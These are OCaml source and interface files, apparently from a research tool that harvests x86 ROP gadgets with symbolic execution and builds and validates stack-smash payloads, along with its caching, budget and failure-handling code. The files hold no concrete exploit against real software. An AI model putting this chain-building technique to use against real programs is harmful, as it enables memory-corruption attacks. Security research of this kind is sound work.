    and uncached runs are bit-identical (the differential suite checks
    this at jobs 1 and 4).  {!load}/{!save} persist the table — along
    with the solver verdict memos, which is how subsumption probes
    consult the store — via [Gp_util.Store]'s checksummed format,
    giving warm starts across process invocations and across
    obfuscation configs of the same program. *)

type value = Gp_symx.Exec.summary list * string option

val enabled : unit -> bool

val set_enabled : bool -> unit
(** [false] disables in-run summary sharing (benchmark ablation); the
    other pipeline caches have the same switch. *)

val find : string -> value option

val add : string -> value -> unit
(** First-write-wins, like every shared cache here: racing domains at
    worst duplicate a compute, and both arrive at the same value. *)

val size : unit -> int
val reset : unit -> unit

(** {1 Suffix store (DESIGN.md §16)}

    A parallel table from {!Gadget.suffix_key} strings to serialized
    [Exec.write_suffix] payloads, persisted in its own store section
    ("suffixes") — old readers skip it, so the schema version is
    unchanged.  Payloads stay raw here: decoding needs the consulting
    image's absolute address, so Extract's harvest hook decodes (a
    payload that fails to decode degrades to a miss). *)

val find_suffix : string -> string option
(** Also counts into {!suffix_store_stats}. *)

val add_suffix : string -> string -> unit
(** First-write-wins; journaled like summaries when a journal is
    open. *)

val suffix_size : unit -> int

val suffix_store_stats : unit -> int * int
(** Process-global (hits, misses) of {!find_suffix} since the last
    {!reset} — the bench transfer rows report these; excluded from
    differential fingerprints like every temperature counter. *)

(** {1 Fingerprint store (DESIGN.md §17)}

    A third table from {!Gadget.fp_key} strings to semantic
    fingerprints, persisted in the "fingerprints" section (schema v3).
    The value is a pure function of the key, so sharing within a run,
    across warm restarts, and across obfuscation configs can only skip
    the batched evaluation, never change a fingerprint. *)

val fp_of : Gadget.t -> Gadget.fp
(** Fingerprint through the cache: hit skips the evaluation, miss
    computes + publishes (first-write-wins) + journals.  Counts into
    {!fp_store_stats}. *)

val fp_size : unit -> int

val fp_store_stats : unit -> int * int
(** Process-global (hits, misses) of {!fp_of} since the last {!reset}:
    temperature counters, reported by the daemon ledger and the bench,
    excluded from differential fingerprints.  The refutation tally
    lives in [Gp_smt.Fpeval] (jobs- and temperature-invariant). *)

(** {1 Persistence} *)

val schema_version : int
(** Bump whenever summary/term/verdict encodings change; older store
    files are then rejected as stale and runs fall back to cold. *)

val file_name : string
(** Store file inside a [cache_dir] ("summaries.gpst"). *)

val path : dir:string -> string

type load_info = {
  li_entries : int;
      (** entries imported from the base store (summaries + verdicts) *)
  li_wal_replayed : int;
      (** entries recovered from the journal's valid prefix *)
  li_wal_truncated : int;
      (** bytes dropped from a torn journal tail; 0 = clean *)
}

type status =
  | Loaded of load_info
  | Absent             (** no store file: a plain cold run *)
  | Rejected of string (** found but unusable (corrupt/stale); cold run *)

val load : dir:string -> status
(** Merge the on-disk store — base file plus the valid prefix of any
    write-ahead journal sibling — into the in-memory table and solver
    memos (existing entries win).  Never raises: every failure mode is
    a {!status}. *)

val save : dir:string -> (unit, string) result
(** Write the current table + solver memos atomically (temp file +
    fsync + rename), holding the dir's advisory lock for the duration
    — unless this process's own journal already holds it (compaction).
    A dir locked by another writer (e.g. a resident daemon) returns an
    [Error] that {!save_locked} recognizes, so callers demote to
    read-only instead of clobbering.  Errors are returned, never
    raised. *)

val save_locked : string -> bool
(** [true] iff a {!save} error means the dir was locked by another
    writer (the clean second-writer demotion) rather than an I/O
    failure. *)

(** {1 Write-ahead journal mode}

    For long sweeps (DESIGN.md §13): {!journal_open} takes the cache
    dir's advisory lock and opens [summaries.gpst.wal]; from then on
    every fresh summary is appended as produced and solver-memo deltas
    are appended + fsync'd at each {!journal_checkpoint}, so a crash
    at any instant loses at most the work since the last checkpoint.
    {!journal_close} compacts WAL → base store atomically.  A second
    writer demotes to [`Read_only] instead of corrupting. *)

val wal_path : dir:string -> string

type journal_open_result = {
  jo_status : status;  (** what the open loaded (base + WAL replay) *)
  jo_mode : [ `Journaling | `Read_only of string ];
}

val journal_open : dir:string -> journal_open_result
val journaling : unit -> bool

val journal_error : unit -> string option
(** Sticky reason if journal I/O failed mid-run and the run demoted to
    in-memory-only. *)

val journal_checkpoint : unit -> (int, string) result
(** Append the solver-memo delta since the last checkpoint, then
    fsync.  Returns the delta size.  No-op [Ok 0] when not
    journaling. *)

val journal_compact : unit -> (unit, string) result
(** Fold the journal into the base store (fsync'd atomic save), then
    reset the WAL to a bare header. *)

val journal_close : unit -> (unit, string) result
(** Compact, then release the writer and the lock. *)

val journal_abandon : unit -> unit
(** Simulated-crash teardown: drop fds and the lock {e without}
    flushing or compacting, leaving the on-disk state exactly as at
    the crash.  Test harness only. *)
