(** Structured failure taxonomy (DESIGN.md "Failure model & budgets").

    The survey in the paper runs hundreds of (program x obfuscation x
    goal) pipeline executions; a single undecodable byte window or
    divergent solver query must be quarantined and counted, never
    allowed to abort the whole sweep.  Stage boundaries in {!Api} are
    typed over this taxonomy and quarantine ledgers built from it land
    in {!Api.stage_stats}. *)

type t =
  | Decode_fault of int64 * string
      (** undecodable byte window at this address *)
  | Symx_unsupported of int64 * string
      (** the symbolic executor refused a run starting here *)
  | Solver_unknown of string
      (** an SMT query came back Unknown where a verdict was needed *)
  | Solver_timeout of string
      (** an SMT query exceeded its trial budget *)
  | Emu_fault of string
      (** concrete execution crashed (unmapped access, bad fetch, ...) *)
  | Budget_exhausted of string * [ `Time | `Fuel ]
      (** the named budget ran dry *)
  | Store_rejected of string
      (** an on-disk incremental store was unusable (corrupt/stale);
          the run was demoted to cold *)
  | Store_locked of string
      (** another writer holds the cache dir's advisory lock; demoted
          to read-only *)
  | Wal_torn of string
      (** the write-ahead journal ended in a torn tail; valid prefix
          replayed, tail dropped *)
  | Frame_fault of [ `Torn | `Checksum | `Disconnect ] * string
      (** a daemon wire frame was unusable (torn stream, checksum or
          format mismatch, client hangup mid-response); the request is
          quarantined, the connection dropped, resident caches
          untouched *)

val label : t -> string
(** Short bucket name ("decode", "symx", "solver-unknown", ...); used as
    the tally key. *)

val to_string : t -> string

(** {1 Supervision}

    The runner's retry ladder and process exit codes are both derived
    from the taxonomy, so every supervisor — in-process or outside —
    classifies failures the same way. *)

val retryable : t -> bool
(** [true] for transient failures (timeouts, exhausted budgets) worth
    retrying with backoff; [false] for permanent properties of the
    input. *)

val exit_code : t -> int
(** Distinct process exit codes per failure class: 75 transient
    timeout, 70 hard analysis fault, 78 store problem, 76 wire
    protocol fault. *)

val exit_code_of_label : string -> int
(** Same mapping keyed by {!label} bucket (for quarantine ledgers). *)

val to_json : t -> string
(** One-line JSON failure record ({["{\"class\": ..., \"detail\": ...,
    \"exit_code\": ...}"]}) for [--json-errors] stderr streams. *)

val json_record : label:string -> detail:string -> string

(** {1 Tallies}

    A fault ledger mapping {!label} buckets to counts.  Stages carry one
    and bump it for each quarantined item; {!Api} snapshots ledgers into
    stats records as sorted association lists. *)

type tally

val tally_create : unit -> tally
val tally_add : tally -> t -> unit
val tally_count : tally -> string -> int
val tally_total : tally -> int

val tally_list : tally -> (string * int) list
(** Sorted [(label, count)] snapshot. *)

val merge_counts : (string * int) list -> (string * int) list -> (string * int) list
(** Merge two snapshots, summing counts per label. *)
