(** Structured failure taxonomy (DESIGN.md "Failure model & budgets").

    The survey in the paper runs hundreds of (program x obfuscation x
    goal) pipeline executions; a single undecodable byte window or
    divergent solver query must be quarantined and counted, never
    allowed to abort the whole sweep.  Stage boundaries in {!Api} are
    typed over this taxonomy and quarantine ledgers built from it land
    in {!Api.stage_stats}. *)

type t =
  | Decode_fault of int64 * string
      (** undecodable byte window at this address *)
  | Symx_unsupported of int64 * string
      (** the symbolic executor refused a run starting here *)
  | Solver_unknown of string
      (** an SMT query came back Unknown where a verdict was needed *)
  | Solver_timeout of string
      (** an SMT query exceeded its trial budget *)
  | Emu_fault of string
      (** concrete execution crashed (unmapped access, bad fetch, ...) *)
  | Budget_exhausted of string * [ `Time | `Fuel ]
      (** the named budget ran dry *)
  | Store_rejected of string
      (** an on-disk incremental store was unusable (corrupt/stale);
          the run was demoted to cold *)

val label : t -> string
(** Short bucket name ("decode", "symx", "solver-unknown", ...); used as
    the tally key. *)

val to_string : t -> string

(** {1 Tallies}

    A fault ledger mapping {!label} buckets to counts.  Stages carry one
    and bump it for each quarantined item; {!Api} snapshots ledgers into
    stats records as sorted association lists. *)

type tally

val tally_create : unit -> tally
val tally_add : tally -> t -> unit
val tally_count : tally -> string -> int
val tally_total : tally -> int

val tally_list : tally -> (string * int) list
(** Sorted [(label, count)] snapshot. *)

val merge_counts : (string * int) list -> (string * int) list -> (string * int) list
(** Merge two snapshots, summing counts per label. *)
