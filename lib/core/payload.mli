(** Post-processing (paper §IV stage 4): linearize a complete
    partial-order plan and emit the concrete stack payload.

    The payload layout follows the classic stack-smash shape: word 0
    lands on the victim's saved return address (holding the first
    gadget's address); execution consumes subsequent words as each gadget
    pops its slots and transfers to the next gadget's address.  Pinned-
    pointer cells (frame reads, jump-table indirections) live deeper in
    the payload, and frame-pivot gadgets move the cursor to their pinned
    frame.  Plans whose cells conflict are rejected here; every emitted
    payload is finally validated by concrete execution. *)

type chain = {
  c_goal : Goal.concrete;
  c_steps : Plan.step list;     (** execution order; goal step last *)
  c_payload : int64 array;      (** word 0 sits at [Layout.payload_base ()] *)
}

exception Infeasible of string

val filler : int64
(** Cell value for unconstrained payload words (0x41...41). *)

val linearize : Plan.t -> Plan.step list
(** Topological order of the steps with the goal forced last; raises
    {!Infeasible} on an ordering cycle. *)

val solve_target :
  Plan.step ->
  Gp_smt.Term.t ->
  int64 ->
  [ `Trivial | `Slot of int * int64 | `Abs of int64 * int64 | `Unsolvable ]
(** Solve [jump-target term = next address] for a single payload-
    controlled variable: a relative stack slot or a resolved absolute
    memory cell. *)

val build : Plan.t -> Goal.concrete -> chain
(** Assemble the payload; raises {!Infeasible} on conflicting cells,
    runtime writes trampling later reads, uncontrollable transfers, or
    interior syscall dead-ends. *)

val build_opt : Plan.t -> Goal.concrete -> chain option

val validate_run : ?fuel:int -> Gp_util.Image.t -> chain -> Gp_emu.Machine.outcome
(** Execute the payload exactly as a stack smash would (registers zeroed,
    rsp at payload word 1, rip at the first gadget) and return the raw
    outcome — so callers can distinguish a chain that crashed ([Fault])
    from one that ran out of fuel ([Timeout]).  A fault while writing
    the payload itself is folded into [Fault]; no exception escapes.
    The emulator's injection fuse is keyed on the chain's gadget
    sequence, so fault schedules are independent of validation order
    and domain count. *)

val validate : ?fuel:int -> Gp_util.Image.t -> chain -> bool
(** [Goal.satisfied] of {!validate_run}: the run ends in the EXACT goal
    attack. *)

val chain_key : chain -> string
(** Identity by gadget-address sequence. *)

val chain_set_key : chain -> string
(** Coarser identity by gadget-address SET — two linearizations of one
    partial order are one payload (how experiments count). *)

val describe : chain -> string
(** Human-readable rendering: goal, gadget listing, payload prefix. *)
