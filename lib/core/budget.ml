(* Hierarchical deadline/fuel budgets (DESIGN.md "Failure model &
   budgets").

   Every stage of the pipeline used to carry its own hard-coded limit —
   `time_budget` seconds here, `node_budget` expansions there, emulator
   `fuel` somewhere else — with no relation between them.  A budget ties
   them together: [Api.run] creates a root budget for the whole
   analysis, carves per-stage sub-budgets off it, and passes them down.
   A child can only tighten its parent's deadline, so a sweep over
   hundreds of programs has a single wall-clock bound no matter how the
   stages misbehave.

   Two resources:
   - a DEADLINE on the monotonic-clamped wall clock, inherited downward
     (child deadline = min(parent deadline, now + slice));
   - FUEL, a per-node counter in caller-defined units (the planner
     spends one unit per expansion; harvest spends one per start
     offset).  Fuel is NOT inherited: each node meters its own loop.

   Polling is cheap: [check] reads the clock only every 32nd call, so it
   can sit at the top of hot loops.  The clock is pluggable
   ([set_clock]) so the fault-injection harness can skew time without
   sleeping. *)

type reason = Deadline | Fuel

exception Exhausted of string * reason
(* Raised by [check].  Carries the budget's label so the catcher can
   report WHICH budget ran dry. *)

(* ----- clock ----- *)

let clock : (unit -> float) ref = ref Unix.gettimeofday

(* Monotonic clamp: a skewed or stepped clock (fault injection, NTP)
   must never make time run backwards, or deadlines would re-open. *)
let last = ref neg_infinity

let now () =
  let t = !clock () in
  if t > !last then last := t;
  !last

let set_clock f =
  clock := f;
  (* re-anchor the clamp so an injected clock that starts in the past
     still advances from its own origin *)
  last := f ()

let reset_clock () =
  clock := Unix.gettimeofday;
  last := Unix.gettimeofday ()

(* ----- budgets ----- *)

type t = {
  label : string;
  deadline : float;              (* absolute, [infinity] = none *)
  mutable fuel : int;            (* [max_int] = unmetered *)
  mutable polls : int;
  mutable hit : reason option;   (* sticky: set on first exhaustion *)
}

let unlimited ?(label = "unlimited") () =
  { label; deadline = infinity; fuel = max_int; polls = 0; hit = None }

let create ?(label = "root") ?seconds ?fuel () =
  { label;
    deadline = (match seconds with Some s -> now () +. s | None -> infinity);
    fuel = (match fuel with Some f -> f | None -> max_int);
    polls = 0;
    hit = None }

(* Carve a child off [parent].  [seconds] gives the child its own slice;
   [fraction] gives it that share of the parent's remaining time.  The
   child's deadline never exceeds the parent's. *)
let sub (parent : t) ?label ?fraction ?seconds ?fuel () =
  let label = match label with Some l -> l | None -> parent.label in
  let t = now () in
  let slice =
    match (seconds, fraction) with
    | Some s, _ -> Some s
    | None, Some fr ->
      if parent.deadline = infinity then None
      else Some (fr *. (parent.deadline -. t))
    | None, None -> None
  in
  let deadline =
    match slice with
    | Some s -> min parent.deadline (t +. s)
    | None -> parent.deadline
  in
  { label; deadline;
    fuel = (match fuel with Some f -> f | None -> max_int);
    polls = 0; hit = None }

(* A per-worker slice for parallel chunks (DESIGN.md "Parallel
   execution & determinism"): shares [parent]'s deadline but owns its
   fuel meter and poll state, so domains never mutate a shared budget.
   The caller allots each chunk its fuel share up front and merges
   consumption back into the parent with [spend] after the join —
   budgets are checkpointed per chunk rather than polled globally. *)
let slice (parent : t) ?label ?fuel () =
  { label = (match label with Some l -> l | None -> parent.label);
    deadline = parent.deadline;
    fuel = (match fuel with Some f -> f | None -> max_int);
    polls = 0;
    hit = None }

let remaining_seconds t =
  if t.deadline = infinity then infinity else t.deadline -. now ()

let remaining_fuel t = t.fuel

let exhausted t =
  t.hit <> None
  || t.fuel <= 0
  || (t.deadline < infinity && now () > t.deadline)

let hit t = t.hit

(* Decrement only — exhaustion is detected at the NEXT loop-top [check],
   mirroring the seed planner's `while !expanded < node_budget`: the
   node that consumes the last unit still completes. *)
let spend ?(amount = 1) t =
  if t.fuel <> max_int then t.fuel <- t.fuel - amount

let check t =
  if t.fuel <= 0 then begin
    t.hit <- Some Fuel;
    raise (Exhausted (t.label, Fuel))
  end;
  t.polls <- t.polls + 1;
  (* first call polls the clock; afterwards every 32nd *)
  if t.deadline < infinity && (t.polls land 31 = 1 || t.hit <> None) then
    if now () > t.deadline then begin
      t.hit <- Some Deadline;
      raise (Exhausted (t.label, Deadline))
    end

let guard t f =
  try
    check t;
    Ok (f ())
  with Exhausted (l, r) when l = t.label ->
    t.hit <- Some r;
    Error r

(* Emulator fuel from remaining wall clock: the interpreter retires
   roughly [per_second] steps a second, so convert the deadline into
   steps and cap it.  An unlimited budget just yields the cap, which
   preserves the seed's hard-coded fuel constants. *)
let emu_fuel ?(per_second = 20_000_000) ?(cap = 5_000_000) t =
  if t.deadline = infinity then cap
  else
    let r = remaining_seconds t in
    if r <= 0. then 0
    else min cap (max 1 (int_of_float (r *. float_of_int per_second)))
