(* The gadget record (paper Table II) plus classification (Table I).

   A gadget is a symbolic summary of an instruction run ending in a
   controllable transfer, reduced to the fields the planner consumes:
   which registers it clobbers, which it sets from attacker-controlled
   stack slots, its pre-condition formulas, its post-condition terms, and
   how control leaves it. *)

open Gp_x86
open Gp_smt

type kind =
  | Return   (* ends in ret *)
  | UDJ      (* unconditional direct jump (merged through) *)
  | UIJ      (* unconditional indirect jump / call *)
  | CDJ      (* conditional, ending in a direct transfer (ret counts) *)
  | CIJ      (* conditional, ending in an indirect transfer *)
  | Sys      (* ends at a syscall *)

let kind_name = function
  | Return -> "ret" | UDJ -> "udj" | UIJ -> "uij" | CDJ -> "cdj" | CIJ -> "cij"
  | Sys -> "sys"

(* How the gadget leaves the stack pointer. *)
type stack_effect =
  | Sdelta of int      (* rsp_final = rsp_entry + d: normal chain motion *)
  | Spivot of int      (* rsp_final = rbp_entry + d: frame pivot (leave) *)
  | Sunknown

type t = {
  id : int;
  addr : int64;                          (* location *)
  len : int;                             (* instruction count *)
  insns : Insn.t list;
  kind : kind;
  jmp : Gp_symx.Exec.jump;
  clobbered : Reg.t list;                (* clob-reg *)
  controlled : (Reg.t * int) list;       (* ctrl-reg: reg <- stack slot at offset *)
  pre : Formula.t list;                  (* pre-cond *)
  post : (Reg.t * Term.t) list;          (* post-cond: final value of every reg *)
  stack_delta : stack_effect;
  stack_writes : (int * Term.t) list;
  consumed : int list;                   (* payload slots this gadget reads *)
  ptr_writes : (Term.t * Term.t) list;   (* write-what-where effects *)
  mem_reads : (string * Term.t * bool) list;  (* var, address, reliable *)
  syscall_state : (Reg.t * Term.t) list option;
  has_cond : bool;
  has_merge : bool;
  alias_hazard : bool;
}

let next_id = ref 0

(* Forget the id sequence.  Differential tests reset before comparing
   pipelines so both runs draw the same ids (ids seed the layout pool's
   address salt, see Plan). *)
let reset_ids () = next_id := 0

(* Draw the next id from the global sequence.  Worker domains build
   gadgets with [of_summary ~id:(-1)] (never touching the shared
   counter); the main domain then renumbers the merged, deterministic
   ally ordered list with [fresh_id], reproducing exactly the sequence
   a sequential harvest would have assigned. *)
let fresh_id () =
  let id = !next_id in
  incr next_id;
  id

type id_source = unit -> int

let global_ids : id_source = fresh_id

(* A private 0-based sequence.  A scheduler cell harvesting on a worker
   domain cannot touch [next_id] (racy, and the draw order would depend
   on interleaving); drawing from its own source reproduces exactly the
   ids a sequential [reset_ids (); harvest] would assign, because both
   number the converted summaries 0, 1, 2, ... in decode order. *)
let local_ids () : id_source =
  let n = ref 0 in
  fun () ->
    let id = !n in
    incr n;
    id

let classify (s : Gp_symx.Exec.summary) =
  if s.Gp_symx.Exec.s_syscall then Sys
  else
    match s.s_jump, s.s_has_cond, s.s_has_merge with
    | Gp_symx.Exec.Jind _, true, _ -> CIJ
    | _, true, _ -> CDJ
    | _, false, true -> UDJ
    | Gp_symx.Exec.Jret _, false, false -> Return
    | Gp_symx.Exec.Jind _, false, false -> UIJ
    | Gp_symx.Exec.Jfall _, false, false -> Sys

(* Build the gadget record for one summary.  Without [id], an id is
   drawn from the global sequence (the sequential harvest path); with
   it, the shared counter is left untouched (parallel workers pass a
   placeholder and the merge renumbers). *)
let of_summary ?id (s : Gp_symx.Exec.summary) : t =
  let st = s.Gp_symx.Exec.s_state in
  let post =
    List.map (fun r -> (r, Term.simplify (Gp_symx.State.reg st r))) Reg.all
  in
  let clobbered =
    List.filter_map
      (fun (r, t) -> if t = Gp_symx.State.reg_var r then None else Some r)
      post
  in
  let controlled =
    List.filter_map
      (fun (r, t) ->
        match t with
        | Term.Var name -> (
          match Gp_symx.State.slot_of_var name with
          | Some off -> Some (r, off)
          | None -> None)
        | _ -> None)
      post
  in
  let stack_delta =
    match Term.linearize (Gp_symx.State.reg st Reg.RSP) with
    | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
      Sdelta (Int64.to_int c)
    | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rbp_0" ->
      Spivot (Int64.to_int c)
    | _ -> Sunknown
  in
  let id = match id with Some i -> i | None -> fresh_id () in
  { id;
    addr = s.s_addr;
    len = List.length s.s_insns;
    insns = s.s_insns;
    kind = classify s;
    jmp = s.s_jump;
    clobbered;
    controlled;
    pre = List.rev st.Gp_symx.State.path;
    post;
    stack_delta;
    stack_writes = st.Gp_symx.State.stack_writes;
    consumed = Gp_symx.State.consumed_slots st;
    ptr_writes = st.Gp_symx.State.ptr_writes;
    mem_reads = st.Gp_symx.State.mem_reads;
    syscall_state =
      (* the state at the FIRST syscall executed (the list is built in
         reverse execution order) *)
      (match List.rev st.Gp_symx.State.syscalls with [] -> None | s :: _ -> Some s);
    has_cond = s.s_has_cond;
    has_merge = s.s_has_merge;
    alias_hazard = st.Gp_symx.State.alias_hazard }

let post_of g r = List.assoc r g.post

(* ----- content addressing (DESIGN.md §11) -----

   A start offset's summaries are a pure function of the instruction
   bytes the symbolic executor CAN read from it, so two starts whose
   reachable byte content agrees — across images, configs, obfuscation
   variants — share one summary.  The key is built by a purely syntactic
   walk that mirrors [Exec.summarize_r]'s driver exactly (same bounds
   checks, same fork/merge counters) except at a conditional jump, where
   it explores BOTH arms unconditionally.  The executor prunes a fork
   semantically (inexpressible condition, contradictory path), but that
   pruning is itself a deterministic function of the instructions
   executed so far — so the syntactic walk covers a superset of every
   semantic path, and key equality implies the executor reads identical
   instruction sequences and therefore produces identical summaries
   (modulo the start address, restored by [Exec.rebase]).

   Each decoded instruction contributes its stable serialization plus
   its encoded length (two encodings of one instruction at the same
   length are indistinguishable to the executor, and length feeds the
   successor position — so keying on the decoded form shares MORE than
   raw bytes would, never less).  Path-terminating causes that depend on
   the image rather than the trace — running off the code section,
   hitting undecodable bytes — get explicit markers, as do the two arms
   of a fork; ends forced by the insn/fork/merge limits are implied by
   the trace and the config header. *)

let content_key ~(config : Gp_symx.Exec.config)
    ~(decode : int -> (Insn.t * int) option) ~code_size ~pos : string =
  let module Bin = Gp_util.Store.Bin in
  let b = Buffer.create 192 in
  Bin.u8 b 1;                          (* key schema *)
  Bin.int_ b config.Gp_symx.Exec.max_insns;
  Bin.int_ b config.Gp_symx.Exec.max_forks;
  Bin.int_ b config.Gp_symx.Exec.max_merges;
  let rec walk pos ninsns nforks nmerges =
    if ninsns > config.Gp_symx.Exec.max_insns then ()
    else if pos < 0 || pos >= code_size then Bin.u8 b 0x42 (* out of code *)
    else
      match decode pos with
      | None -> Bin.u8 b 0x43                              (* undecodable *)
      | Some (insn, len) -> (
        Bin.u8 b 0x41;
        Bin.u8 b len;
        Gp_symx.Exec.put_insn b insn;
        let next = pos + len in
        match insn with
        | Insn.Ret | Insn.RetImm _ | Insn.JmpReg _ | Insn.JmpMem _
        | Insn.CallReg _ | Insn.CallMem _ | Insn.Int3 | Insn.Hlt ->
          ()                                               (* End / Abort *)
        | Insn.Jmp rel | Insn.Call rel ->
          if nmerges < config.Gp_symx.Exec.max_merges then
            walk (next + rel) (ninsns + 1) nforks (nmerges + 1)
        | Insn.Jcc (_, rel) ->
          if nforks < config.Gp_symx.Exec.max_forks then begin
            Bin.u8 b 0x44;                                 (* taken arm *)
            walk (next + rel) (ninsns + 1) (nforks + 1) (nmerges + 1);
            Bin.u8 b 0x45;                                 (* fall-through *)
            walk next (ninsns + 1) (nforks + 1) nmerges
          end
        | _ -> walk next (ninsns + 1) nforks nmerges)
  in
  walk pos 0 0 0;
  Buffer.contents b

(* Content address of a SUFFIX entry: the same syntactic walk, run at
   the residual budget the suffix was computed under.  The residual
   triple is part of the key header, so entries for different residuals
   never collide; whole-gadget and suffix keys live in different store
   sections, so their byte ranges may overlap freely. *)
let suffix_key ~cap:(ri, rf, rm) ~decode ~code_size ~pos : string =
  content_key
    ~config:{ Gp_symx.Exec.max_insns = ri; max_forks = rf; max_merges = rm }
    ~decode ~code_size ~pos

(* ----- semantic fingerprints (DESIGN.md §17) -----

   [fp_eq] is the equality-partition key: a deterministic serialization
   of the gadget's effect STRUCTURE (jump tag, write counts, syscall
   shape) together with lanes 0 and 1 — the all-zeros and all-ones
   valuations — of every term [Subsume.same_effects] would probe with
   [Solver.prove_equal].  Those two lanes are exactly the real prover's
   first two (deterministic) trials, so [fp_eq g1 <> fp_eq g2] implies
   either a structural mismatch ([same_effects] answers false before
   any probe) or some probed pair differing on a deterministic trial
   ([prove_equal] answers false with screening on OR off).  Lanes 2-11
   are deliberately EXCLUDED here: the 32-trial prover is by-contract
   authoritative, and an adversarial-point refutation it might miss
   would flip a verdict.  [ptr_writes] contributes only its length,
   mirroring [same_effects] (which never probes those terms).

   [fp_pre] is the precondition-satisfaction mask: bit k set iff every
   formula of [g.pre] holds under screen point k with the default
   pool's pointer predicates — exactly [Solver.entails]' Tier B side
   condition for hypotheses [g.pre].  If some lane satisfies g2's
   preconditions but not g1's, that lane is a genuine model of
   [g2.pre ∧ ¬f] for g1's failing (non-tautological) formula f, so
   [entails g2.pre f] is false under either screening toggle and g1
   cannot subsume g2 (the lane-mask argument, DESIGN.md §17). *)

type fp = { fp_eq : string; fp_pre : int }

module Bin = Gp_util.Store.Bin

let fingerprint (g : t) : fp =
  let b = Buffer.create 256 in
  let lanes01 t =
    let l = (Fpeval.eval t).Fpeval.lv in
    Bin.i64 b l.(0);
    Bin.i64 b l.(1)
  in
  (match g.jmp with
  | Gp_symx.Exec.Jret t -> Bin.u8 b 0; lanes01 t
  | Gp_symx.Exec.Jind t -> Bin.u8 b 1; lanes01 t
  | Gp_symx.Exec.Jfall _ -> Bin.u8 b 2);
  Bin.int_ b (List.length g.post);
  List.iter
    (fun (r, t) -> Bin.int_ b (Reg.number r); lanes01 t)
    g.post;
  Bin.int_ b (List.length g.stack_writes);
  List.iter (fun (o, t) -> Bin.int_ b o; lanes01 t) g.stack_writes;
  Bin.int_ b (List.length g.ptr_writes);
  (match g.syscall_state with
  | None -> Bin.u8 b 0
  | Some s ->
    Bin.u8 b 1;
    Bin.int_ b (List.length s);
    List.iter (fun (r, t) -> Bin.int_ b (Reg.number r); lanes01 t) s);
  let fp_pre =
    Fpeval.conj_mask ~readable:Solver.default_pool.Solver.readable
      ~writable:Solver.default_pool.Solver.writable g.pre
  in
  { fp_eq = Buffer.contents b; fp_pre }

(* Content address of a fingerprint: a serialization of exactly the
   semantic fields [fingerprint] reads, so the stored value is a pure
   function of the key.  Unlike [content_key] this is computed from the
   finished record (fingerprints are consumed long after decode
   context is gone) and — unlike [suffix_key] — carries no residual
   budget: the same gadget content fingerprints identically under any
   extraction config. *)
let fp_key (g : t) : string =
  let w = Term.Ser.writer () in
  let b = Buffer.create 256 in
  Bin.u8 b 1;                          (* key schema *)
  (match g.jmp with
  | Gp_symx.Exec.Jret t -> Bin.u8 b 0; Term.Ser.put w b t
  | Gp_symx.Exec.Jind t -> Bin.u8 b 1; Term.Ser.put w b t
  | Gp_symx.Exec.Jfall _ -> Bin.u8 b 2);
  Bin.int_ b (List.length g.post);
  List.iter
    (fun (r, t) -> Bin.int_ b (Reg.number r); Term.Ser.put w b t)
    g.post;
  Bin.int_ b (List.length g.stack_writes);
  List.iter (fun (o, t) -> Bin.int_ b o; Term.Ser.put w b t) g.stack_writes;
  Bin.int_ b (List.length g.ptr_writes);
  (match g.syscall_state with
  | None -> Bin.u8 b 0
  | Some s ->
    Bin.u8 b 1;
    Bin.int_ b (List.length s);
    List.iter (fun (r, t) -> Bin.int_ b (Reg.number r); Term.Ser.put w b t) s);
  Formula.put_list w b g.pre;
  Buffer.contents b

(* Store codec for fingerprint values.  [get_fp] rejects masks outside
   the lane range — checksummed bytes that decode to an impossible mask
   mean writer/reader skew, and a wrong mask would skip real probes. *)
let put_fp b (f : fp) =
  Bin.str b f.fp_eq;
  Bin.int_ b f.fp_pre

let get_fp s pos =
  let fp_eq = Bin.gstr s pos in
  let fp_pre = Bin.gint s pos in
  if fp_pre < 0 || fp_pre > Fpeval.full_mask then raise Bin.Truncated;
  { fp_eq; fp_pre }

let to_string g =
  Printf.sprintf "0x%Lx [%s] %s" g.addr (kind_name g.kind)
    (String.concat "; " (List.map Insn.to_string g.insns))

let describe g =
  let buf = Buffer.create 128 in
  Buffer.add_string buf (to_string g);
  Buffer.add_string buf "\n  pre:  ";
  Buffer.add_string buf
    (String.concat " && " (List.map Formula.to_string g.pre));
  Buffer.add_string buf "\n  post: ";
  List.iter
    (fun (r, t) ->
      if List.mem r g.clobbered then
        Buffer.add_string buf
          (Printf.sprintf "%s=%s " (Reg.name r) (Term.to_string t)))
    g.post;
  Buffer.contents buf
