(* The gadget record (paper Table II) plus classification (Table I).

   A gadget is a symbolic summary of an instruction run ending in a
   controllable transfer, reduced to the fields the planner consumes:
   which registers it clobbers, which it sets from attacker-controlled
   stack slots, its pre-condition formulas, its post-condition terms, and
   how control leaves it. *)

open Gp_x86
open Gp_smt

type kind =
  | Return   (* ends in ret *)
  | UDJ      (* unconditional direct jump (merged through) *)
  | UIJ      (* unconditional indirect jump / call *)
  | CDJ      (* conditional, ending in a direct transfer (ret counts) *)
  | CIJ      (* conditional, ending in an indirect transfer *)
  | Sys      (* ends at a syscall *)

let kind_name = function
  | Return -> "ret" | UDJ -> "udj" | UIJ -> "uij" | CDJ -> "cdj" | CIJ -> "cij"
  | Sys -> "sys"

(* How the gadget leaves the stack pointer. *)
type stack_effect =
  | Sdelta of int      (* rsp_final = rsp_entry + d: normal chain motion *)
  | Spivot of int      (* rsp_final = rbp_entry + d: frame pivot (leave) *)
  | Sunknown

type t = {
  id : int;
  addr : int64;                          (* location *)
  len : int;                             (* instruction count *)
  insns : Insn.t list;
  kind : kind;
  jmp : Gp_symx.Exec.jump;
  clobbered : Reg.t list;                (* clob-reg *)
  controlled : (Reg.t * int) list;       (* ctrl-reg: reg <- stack slot at offset *)
  pre : Formula.t list;                  (* pre-cond *)
  post : (Reg.t * Term.t) list;          (* post-cond: final value of every reg *)
  stack_delta : stack_effect;
  stack_writes : (int * Term.t) list;
  consumed : int list;                   (* payload slots this gadget reads *)
  ptr_writes : (Term.t * Term.t) list;   (* write-what-where effects *)
  mem_reads : (string * Term.t * bool) list;  (* var, address, reliable *)
  syscall_state : (Reg.t * Term.t) list option;
  has_cond : bool;
  has_merge : bool;
  alias_hazard : bool;
}

let next_id = ref 0

(* Forget the id sequence.  Differential tests reset before comparing
   pipelines so both runs draw the same ids (ids seed the layout pool's
   address salt, see Plan). *)
let reset_ids () = next_id := 0

(* Draw the next id from the global sequence.  Worker domains build
   gadgets with [of_summary ~id:(-1)] (never touching the shared
